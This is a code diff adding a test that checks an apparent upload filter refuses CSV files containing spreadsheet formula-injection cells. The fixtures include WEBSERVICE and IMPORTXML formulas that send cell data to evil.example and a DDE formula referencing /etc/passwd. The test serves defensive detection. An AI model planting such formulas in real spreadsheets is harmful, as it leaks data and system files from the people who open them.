@@ -121,6 +121,25 @@ def test_a_table_that_starts_a_program() -> None:
         assert judge(content.encode(), "lijst.csv").kind == CSV
 
 
+def test_a_table_that_asks_another_server() -> None:
+    for cell in (
+        '=WEBSERVICE("https://evil.example/?"&A1)',
+        '"=1+WebService (""https://evil.example/""&B2)"',
+        '@IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+        '-SERVICEWEB("https://evil.example/")',
+        '+DDE("soffice";"/etc/passwd";"A1")',
+    ):
+        for content in (f"naam;x\r\nAn;{cell}\r\n", f"{cell}\n", f"é{' ' * 300_000}\r\n{cell}\r\n"):
+            for encoding in ("utf-8", "utf-16", "latin-1"):
+                with pytest.raises(Refused) as refused:
+                    judge(content.encode(encoding), "lijst.csv")
+                assert refused.value.reason.value == "active_content", cell
+        assert judge(cell.encode(), "lijst.csv", frozenset()).kind == CSV
+        assert judge(cell.encode(), "vraag.txt").kind == TEXT
+    for content in ("naam;WEBSERVICE (dienst)\n", "=SUM(A1)\nIMPORTDATA(x)\n", "onze webservice(s);-5\n"):
+        assert judge(content.encode(), "lijst.csv").kind == CSV
+
+
 def test_encodings() -> None:
     for content in (
         codecs.BOM_UTF16_BE + "a;é\r\n".encode("utf-16-be"),
